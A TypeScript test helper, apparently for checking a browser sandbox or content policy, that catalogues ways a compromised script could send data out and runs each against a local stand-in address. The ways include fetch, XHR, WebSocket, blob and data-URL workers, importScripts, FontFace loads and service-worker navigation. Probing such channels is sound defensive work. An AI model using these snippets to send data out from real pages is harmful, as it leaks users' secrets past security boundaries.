/**
 * Ways by which a script that went bad would send what it knows to somebody: `to` is their address, `peer` where they
 * wait for packets. Each is the body of an async function, so that it runs in any engine, in pages and in workers.
 */
export type Attempt = readonly [name: string, body: string];

/** Of any global scope. */
export const ANYWHERE: readonly Attempt[] = [
  ["fetch", "await fetch(to)"],
  ["fetch that posts", 'await fetch(to, { method: "POST", body: "secret" })'],
  ["fetch without CORS", 'await fetch(to, { mode: "no-cors" })'],
  ["fetch that outlives the page", 'await fetch(to, { method: "POST", keepalive: true, body: "secret" })'],
  [
    "XMLHttpRequest",
    'const it = new XMLHttpRequest(); it.open("POST", to); it.send("secret"); await new Promise((done) => it.addEventListener("loadend", done))',
  ],
  ["XMLHttpRequest at once", 'const it = new XMLHttpRequest(); it.open("GET", to, false); it.send()'],
  ["WebSocket", 'new WebSocket(to.replace("http", "ws"))'],
  ["EventSource", "new EventSource(to)"],
  ["WebTransport", 'await new WebTransport(to.replace("http:", "https:")).ready'],
  ["import", "await import(to)"],
  ["worker of theirs", 'new Worker(to, { type: "module" })'],
  [
    "worker of a text",
    'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to) + ")"], { type: "text/javascript" })))',
  ],
  [
    "worker of an address that is a text",
    'new Worker("data:text/javascript,fetch(" + JSON.stringify(to) + ")")',
  ],
  ["shared worker", "new SharedWorker(to)"],
  ["cache", 'await (await caches.open("x")).add(to)'],
];

/** Of a worker. */
export const IN_WORKER: readonly Attempt[] = [
  ...ANYWHERE,
  ["importScripts", "importScripts(to)"],
  ["typeface", 'const it = new FontFace("x", "url(" + to + ")"); await it.load()'],
];

/** Of a service worker. */
export const IN_SERVICE_WORKER: readonly Attempt[] = [
  ...IN_WORKER,
  ["window", "await clients.openWindow(to)"],
  [
    "page sent elsewhere",
    "for (const it of await clients.matchAll({ includeUncontrolled: true })) await it.navigate(to)",
  ],
  ["fetch in the background", 'await registration.backgroundFetch.fetch("x", [to])'],
];

/** Where attempts would arrive. */
export interface Target {
  /** An address of theirs, which differs by attempt. */
  readonly origin: string;
  /** Host and port that wait for packets. */
  readonly peer: string;
}

/** How long an attempt may take, in milliseconds: nothing here is further away than this machine. */
const PATIENCE = 1500;

/**
 * A statement that makes attempts, each by itself, and then does something.
 *
 * @param then - statements; `results` is what became of each
 */
export const attemptsAs = (attempts: readonly Attempt[], { origin, peer }: Target, then: string): string => `
(async () => {
  const peer = ${JSON.stringify(peer)};
  const patience = () => new Promise((done) => setTimeout(done, ${PATIENCE}, "nothing came of it"));
  const results = await Promise.all([${attempts
    .map(
      ([name, body]) => `
    (async (to) => {
      try {
        return [${JSON.stringify(name)}, await Promise.race([(async () => { ${body}; return "went through"; })(), patience()])];
      } catch (refusal) {
        return [${JSON.stringify(name)}, String(refusal).slice(0, 100)];
      }
    })(${JSON.stringify(`${origin}/${encodeURIComponent(name)}`)})`,
    )
    .join(",")}
  ]);
  await patience();
  ${then}
})();`;
